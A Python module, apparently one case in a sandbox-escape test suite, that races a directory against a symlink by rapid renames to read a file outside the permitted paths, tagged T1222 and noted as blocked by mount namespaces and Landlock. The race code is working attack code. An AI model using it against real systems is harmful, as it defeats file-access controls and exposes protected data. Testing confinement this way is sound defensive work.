"""Exchange a folder for a link in the moment between look and open.

gain: files that the rules do not name
attack: T1222
stopped by: mount namespace, Landlock
unconfined: host
"""

import os
import threading

from attacker import Refused, in_child


def attempt(world):
    def race():
        home = f"{world['work']}/race"
        os.makedirs(f"{home}/real", exist_ok=True)
        target = world["race"]
        name = os.path.basename(target)
        open(f"{home}/real/{name}", "w").close()
        if not os.path.islink(f"{home}/link"):
            os.symlink(os.path.dirname(target), f"{home}/link")
        over = False

        def swap():
            while not over:
                try:
                    os.rename(f"{home}/real", f"{home}/place")
                    os.rename(f"{home}/place", f"{home}/real")
                    os.rename(f"{home}/link", f"{home}/place")
                    os.rename(f"{home}/place", f"{home}/link")
                except OSError:
                    return

        thread = threading.Thread(target=swap)
        thread.start()
        try:
            for _ in range(5000):
                try:
                    with open(f"{home}/place/{name}") as file:
                        if text := file.read(40):
                            return f"read {text!r}"
                except OSError:
                    continue
        finally:
            over = True
            thread.join()
        raise Refused("5,000 opens, none of them of the other file")

    return in_child(race, seconds=20)
